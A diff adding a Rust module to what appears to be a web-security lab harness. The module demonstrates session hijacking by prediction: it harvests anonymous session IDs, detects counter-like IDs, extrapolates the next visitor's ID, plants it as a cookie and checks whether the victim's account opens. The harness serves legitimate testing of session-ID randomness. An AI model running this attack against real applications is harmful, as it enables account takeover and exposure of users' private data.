@@ -1,0 +1,149 @@
+//! `hijack-predict`: harvest session IDs, find the pattern, compute the victim's.
+//!
+//! The attacker opens the login page with fresh browsers and keeps the IDs the
+//! app hands out. tower-sessions IDs are 16 bytes in base64url: decoded, a
+//! counter shows a constant step, and the next values are the next visitors'
+//! IDs. 128 bits from a CSPRNG show no step, and there is nothing to compute.
+
+use base64::Engine;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+
+use crate::actors::{log_in, probe_account, read_own_note, short};
+use crate::lab::{RunContext, RunError, plant_cookie};
+use crate::outcome::{Actor, Verdict};
+
+/// How many anonymous sessions the attacker collects.
+const HARVEST: usize = 5;
+/// How many predicted IDs the attacker tries after the last harvested one.
+const GUESSES: i128 = 20;
+/// A step larger than this is not a counter anyone could walk.
+const MAX_COUNTER_STEP: i128 = 1 << 20;
+/// Length of a tower-sessions ID in base64url (16 bytes).
+const ID_LEN: usize = 22;
+
+/// What the attacker concluded from the harvested IDs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum IdPattern {
+    /// Consecutive IDs differ by a constant `step`.
+    Counter { last: i128, step: i128 },
+    /// Nothing to predict; the text says what the attacker saw.
+    NoStructure(String),
+}
+
+/// Decodes an ID as the app encodes it: the last 22 characters (a signed cookie
+/// puts its signature first) are 16 bytes of base64url, a little-endian integer.
+pub fn decode_id(value: &str) -> Option<i128> {
+    let id = value.get(value.len().checked_sub(ID_LEN)?..)?;
+    let bytes: [u8; 16] = URL_SAFE_NO_PAD.decode(id).ok()?.try_into().ok()?;
+    Some(i128::from_le_bytes(bytes))
+}
+
+/// Encodes a number the way the app encodes IDs.
+pub fn encode_id(value: i128) -> String {
+    URL_SAFE_NO_PAD.encode(value.to_le_bytes())
+}
+
+/// Looks for a constant step between consecutive decoded IDs.
+pub fn analyse(ids: &[String]) -> IdPattern {
+    let decoded: Option<Vec<i128>> = ids.iter().map(|id| decode_id(id)).collect();
+    let Some(values) = decoded else {
+        return IdPattern::NoStructure("the IDs do not decode to 16-byte values".into());
+    };
+    let steps: Vec<i128> = values.windows(2).map(|w| w[1].wrapping_sub(w[0])).collect();
+    match steps.first() {
+        Some(&step) if step != 0 && step.abs() < MAX_COUNTER_STEP && steps.iter().all(|&s| s == step) => {
+            IdPattern::Counter { last: *values.last().expect("at least two IDs"), step }
+        }
+        _ => IdPattern::NoStructure(format!(
+            "decoded, they are 128-bit numbers with no constant step (e.g. {:.2e} between the first two)",
+            steps.first().copied().unwrap_or_default() as f64
+        )),
+    }
+}
+
+pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
+    let cookie = ctx.target.session_cookie.clone();
+    let mut harvested = Vec::new();
+    for _ in 0..HARVEST {
+        let mut fresh = ctx.browser("attacker");
+        fresh.open(&ctx.app_url("/login"), None).await?;
+        if let Some(c) = fresh.jar.cookies().iter().find(|c| c.name == cookie) {
+            harvested.push(c.value.clone());
+        }
+    }
+    if harvested.len() < 2 {
+        return Err(RunError::Lab("the app handed out no session IDs to anonymous visitors".into()));
+    }
+    let pattern = analyse(&harvested);
+    let seen = match &pattern {
+        IdPattern::Counter { last, step } => {
+            format!("IDs {} decode to a counter: …, {}, {} (step {step})", harvested.join(" "), last - step, last)
+        }
+        IdPattern::NoStructure(why) => {
+            format!("IDs {}: {why}", harvested.iter().map(|i| short(i)).collect::<Vec<_>>().join(" "))
+        }
+    };
+    ctx.step(Actor::Attacker, format!("opened the login page {HARVEST} times and kept the session IDs"), seen);
+
+    let mut victim = ctx.browser("victim");
+    log_in(ctx, &mut victim, &ctx.victim).await?;
+    let note = read_own_note(ctx, &mut victim).await?;
+    ctx.step(Actor::Victim, format!("{} logged in and opened her account", ctx.victim.username), "saw her private note");
+
+    let IdPattern::Counter { last, step } = pattern else {
+        let evidence = format!("{HARVEST} harvested IDs showed no structure to extrapolate; no ID worth guessing");
+        ctx.step(Actor::Attacker, "looked for a counter or timestamp in the IDs", &evidence);
+        return Ok(Verdict::blocked(evidence));
+    };
+    for k in 1..=GUESSES {
+        let guess = last + step * k;
+        let mut attacker = ctx.browser("attacker");
+        let account = ctx.app_url("/account");
+        plant_cookie(&mut attacker, &account, &cookie, &encode_id(guess));
+        let probe = probe_account(&mut attacker, account).await?;
+        if probe.shows(&note) {
+            let evidence = format!(
+                "guess #{k}, counter value {guess} ({}), opened {}'s account and showed her private note",
+                encode_id(guess),
+                ctx.victim.username
+            );
+            ctx.step(Actor::Attacker, format!("tried the next IDs after {last}"), &evidence);
+            return Ok(Verdict::compromised(evidence));
+        }
+    }
+    let evidence = format!("the IDs counted, but none of the next {GUESSES} opened the victim's account");
+    ctx.step(Actor::Attacker, format!("tried the next IDs after {last}"), &evidence);
+    Ok(Verdict::blocked(evidence))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_counter_is_found_and_extrapolated() {
+        let ids: Vec<String> = (1000..1005).map(encode_id).collect();
+        assert_eq!(analyse(&ids), IdPattern::Counter { last: 1004, step: 1 });
+    }
+
+    #[test]
+    fn random_ids_show_no_structure() {
+        let ids: Vec<String> = [0x1234_5678_9abc_def0_1122_3344_5566_7788_i128, -42_000_000_000_000_000_000, 7]
+            .into_iter()
+            .map(encode_id)
+            .collect();
+        assert!(matches!(analyse(&ids), IdPattern::NoStructure(_)));
+    }
+
+    #[test]
+    fn a_signed_cookie_is_decoded_from_its_last_22_characters() {
+        let signed = format!("{}{}", "x".repeat(44), encode_id(1001));
+        assert_eq!(decode_id(&signed), Some(1001));
+    }
+
+    #[test]
+    fn garbage_does_not_decode() {
+        assert_eq!(decode_id("short"), None);
+        assert!(matches!(analyse(&["!!".into(), "??".into()]), IdPattern::NoStructure(_)));
+    }
+}
